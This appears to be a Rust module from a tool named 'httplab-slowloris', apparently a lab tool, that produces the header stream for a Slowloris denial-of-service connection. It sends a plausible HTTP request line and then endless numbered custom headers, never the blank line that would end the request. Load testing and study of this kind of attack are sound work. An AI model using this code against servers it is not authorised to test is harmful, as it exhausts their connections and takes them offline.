//! Header lines for one slow connection.
//!
//! The sequence opens a plausible HTTP/1.1 request and then continues with
//! custom headers indefinitely. The empty line that would end the header
//! section is never produced.

use std::time::{SystemTime, UNIX_EPOCH};

const USER_AGENT: &str = concat!("httplab-slowloris/", env!("CARGO_PKG_VERSION"));

/// Number of fixed lines (request line, Host, User-Agent) before the custom
/// headers start.
pub const PREAMBLE_LINES: usize = 3;

/// Infinite iterator over CRLF-terminated header lines.
#[derive(Debug, Clone)]
pub struct HeaderDrip {
    worker: usize,
    host: String,
    emitted: usize,
}

impl HeaderDrip {
    pub fn new(worker: usize, host: impl Into<String>) -> Self {
        Self { worker, host: host.into(), emitted: 0 }
    }

    /// Lines produced so far.
    pub fn emitted(&self) -> usize {
        self.emitted
    }

    /// Custom `X-Slowloris-N` lines produced so far.
    pub fn custom_emitted(&self) -> usize {
        self.emitted.saturating_sub(PREAMBLE_LINES)
    }

    pub fn next_line(&mut self) -> String {
        self.emitted += 1;
        match self.emitted {
            1 => format!("GET /?worker={} HTTP/1.1\r\n", self.worker),
            2 => format!("Host: {}\r\n", self.host),
            3 => format!("User-Agent: {USER_AGENT}\r\n"),
            n => format!("X-Slowloris-{}: {}\r\n", n - PREAMBLE_LINES, unix_nanos()),
        }
    }
}

fn unix_nanos() -> u128 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or_default()
}

impl Iterator for HeaderDrip {
    type Item = String;

    fn next(&mut self) -> Option<String> {
        Some(self.next_line())
    }
}
